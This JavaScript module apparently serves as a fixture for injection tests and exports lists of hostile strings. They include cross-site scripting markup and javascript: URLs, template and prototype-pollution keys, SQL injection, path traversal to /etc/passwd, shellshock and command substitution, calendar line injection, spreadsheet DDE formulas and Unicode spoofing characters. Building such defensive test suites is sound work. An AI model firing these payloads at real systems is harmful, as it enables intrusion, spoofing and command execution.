// Texts that are dangerous somewhere: in a page, a URL, a template, a calendar file, a spreadsheet, a
// terminal, or to the reader's eye. Imported by the injection tests.

/** What an injected script would set. */
const RUN = 'window.pwned=1';

const MARKUP = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `</script><script>${RUN}</script>`, `<script src=//x.example/a.js></script>`,
  `<script type=module>${RUN}</script>`, `<script\x20type="text/javascript">${RUN}</script>`, `<script\x0c>${RUN}</script>`, `<script/x>${RUN}</script>`, `<svg><script>${RUN}</script></svg>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img/src/onerror=${RUN}>`, `<img src="x\`onerror=${RUN}>`, `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><animate onbegin=${RUN} attributeName=x>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,x#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`, `<body onload=${RUN}>`, `<iframe src="javascript:parent.${RUN}">`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<link rel=stylesheet href=//x.example/a.css>`, `<link rel=import href=//x.example/a>`, `<base href=//x.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta charset=utf-7>`, `<form action=javascript:${RUN}><button>x</button></form>`, `<button formaction=javascript:${RUN}>x`, `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`, `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`, `<style>@import '//x.example/a.css'</style>`, `<style>*{background:url(//x.example/)}</style>`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<?xml version="1.0"?><x/>`, `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`, `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`, `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `\` onmouseover=${RUN}`, `x" style="position:fixed;inset:0" x="`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</select><script>${RUN}</script>`, `--><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&amp;lt;b&amp;gt;`, `\u003cscript\u003e`, `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `＜script＞${RUN}＜/script＞`, `<b>bold</b>`, `<h1>big</h1>`, `<a href=//x.example>x</a>`,
  `<dispute-clock></dispute-clock>`, `<slot name=x></slot>`, `<x is=button onclick=${RUN}>`, `<plaintext>`, `<xmp><script>${RUN}</script></xmp>`,
];

const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`,
  `\x01javascript:${RUN}`, `javascript&colon;${RUN}`, `javascript://%0a${RUN}`, `jav&#x09;ascript:${RUN}`, `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD4=`, `data:image/svg+xml,<svg onload=${RUN}>`, `blob:https://x.example/1`, `file:///etc/passwd`,
  `ftp://x.example/`, `http://x.example/`, `//x.example/`, `\\\\x.example\\share`, `https:x.example`,
  `https:///x.example`, `https://x.example@evil.example/`, `https://x.example%00.evil.example/`, `https://аррӏе.example/`, `https://x.example/"onclick="${RUN}`,
  `https://x.example/<script>`, `https://x.example/\u202ecod.exe`, `https://x.example/ x`, `mailto:x@x.example?bcc=y`, `tel:+1900`,
  `intent://x#Intent;scheme=http;end`, `ms-word:ofe|u|https://x.example/`, `view-source:https://x.example`, `about:blank`, `#orders=j.e30`,
];

const TEMPLATES = [
  '{{7*7}}', '{{constructor.constructor("window.pwned=1")()}}', '${7*7}', '${alert(1)}', '<%= 7*7 %>',
  '#{7*7}', '*{7*7}', '@{7*7}', '[[7*7]]', '{% raw %}',
  '{{{x}}}', '$(touch x)', '`touch x`', '%s%s%s%n', '%(x)s',
  '{0}', '{count}', '{order}', '{phase}', '{__proto__}',
  '$&', "$'", '$`', '$1', '\\1',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty',
  'valueOf', '__defineGetter__', 'then', 'length', 'name',
  'null', 'undefined', 'NaN', 'Infinity', '-0',
  'true', 'false', '[object Object]', '{"id":"x"}', '[]',
  "'; DROP TABLE orders; --", "' OR '1'='1", '../../etc/passwd', '..\\..\\x', 'CON',
  '() { :;}; echo x', '\x1b[2J\x1b]0;x\x07', '\u0008\u0008\u0008', '%0d%0aSet-Cookie:x=1', '%00',
];

const CALENDAR = [
  'x\r\nATTACH:https://x.example/', 'x\nATTACH:https://x.example/', 'x\rATTACH:https://x.example/', 'x\r\n BEGIN:VALARM', 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:1',
  'x\r\nEND:VCALENDAR', 'x\\nATTACH:y', 'x\\\r\nATTACH:y', 'x\u0085ATTACH:y', 'x\u2028ATTACH:y',
  'x\u2029ATTACH:y', 'x\u000bATTACH:y', 'x\u000cATTACH:y', 'x;ALTREP="https://x.example/":y', 'x:y;z,w',
  '\\;', '\\,', '\\\\', '\\n', '\\N',
  '\\', 'x\\', '"', '^n', "^'",
  'BEGIN:VEVENT', 'END:VEVENT', 'RRULE:FREQ=SECONDLY', 'ATTENDEE:mailto:x@x.example', 'ORGANIZER:mailto:x@x.example',
  '\r\n\r\n', '\r\n ', '\n\t', '\r\n\tx', 'METHOD:REQUEST',
  `${'x'.repeat(74)}я`, `${'я'.repeat(37)}😀`, '😀'.repeat(30), 'e\u0301'.repeat(40), `${' '.repeat(80)}x`,
  'X-ALT-DESC;FMTTYPE=text/html:<b>x</b>', 'TRIGGER:-PT0S', 'ACTION:EMAIL', 'ACTION:PROCEDURE', '=0D=0AATTACH:y',
];

const FORMULAS = [
  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://x.example/?"&A1,"x")', '=IMPORTXML("https://x.example/","//a")', '=WEBSERVICE("https://x.example/")',
  '+1+1', '+cmd|\' /C calc\'!A0', '-1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)',
  '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1',
  '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '\u00a0=1+1',
  '\u200b=1+1', '\ufeff=1+1', '"=1+1"', '"=1+1', '\'=1+1',
  "''=1+1", ';=1+1', ',=1+1', '|=1+1', 'x;=1+1',
  'x,=1+1', 'x"\n=1+1', 'x\r\n=1+1', '";=1+1;"', '",=1+1,"',
  '=DDE("cmd";"/C calc";"x")', '%0A=1+1', '=1+1\x00', '\x00=1+1', '=\'file:///etc/passwd\'#$x.A1',
  '1/2', '1E5', '00123', '12.05', '-5',
  '+7 900 000-00-00', '(1)', '1,5', '£1', '10%',
];

const EYE = [
  '\u202egpj.exe', 'x\u202ey\u202c', '\u202dabc', '\u2066x\u2069', '\u2067x',
  '\u2068x', '\u061cx', '\u200ex', '\u200fx', '\u202a\u202b\u202c',
  'מחיר 5', 'سعر ٥', '\u202e\u202e\u202e', 'a\u202e<b>\u202c', '\u2069\u2069x',
  '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff',
  'a\u200bb', '\u00ad', 'a\u00adb', '\u034f', '\u180e',
  '\u3164', '\u115f', '\u2800', '\u00a0', '\u3000',
  'Joom\u200b', 'Јоом', 'pаypal', 'ⅹ', '𝐉𝐨𝐨𝐦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '👨‍👩‍👧‍👦', '\ufe0f\ufe0f', '🇷', '\u{e0001}\u{e0061}',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324', '\u0301'.repeat(50), 'ﷺ'.repeat(10), '﷽', '𒐫',
  '\ud800', '\udc00', '\ud83d', 'x\udfffy', '\udc00\ud800',
  '\ufffd', '\uffff', '\ufdd0', '\u{10ffff}', '\u{1fffe}',
];

const CONTROLS = [
  '\0', '\0\0\0', 'a\0b', '\0<script>', 'x\0=1',
  '\x01', '\x07', '\x08', '\x0b', '\x0c',
  '\x0e', '\x1a', '\x1b', '\x1f', '\x7f',
  '\x80', '\x85', '\x9b', '\x9f', '\u2028',
  '\u2029', '\r', '\n', '\r\n', '\t',
  'a\tb', 'a\rb', 'a\nb', ' ', '   ',
  'x'.repeat(500), '<'.repeat(400), '"'.repeat(400), '\n'.repeat(400), '\u202e'.repeat(400),
  '{'.repeat(400), '['.repeat(400), '\\'.repeat(400), '&'.repeat(400), '-'.repeat(400),
];

/** By what they are made to break. */
export const HOSTILE_TEXTS = { MARKUP, ADDRESSES, TEMPLATES, CALENDAR, FORMULAS, EYE, CONTROLS };

/** All of them, without duplicates. */
export const ALL_HOSTILE = [...new Set(Object.values(HOSTILE_TEXTS).flat())];
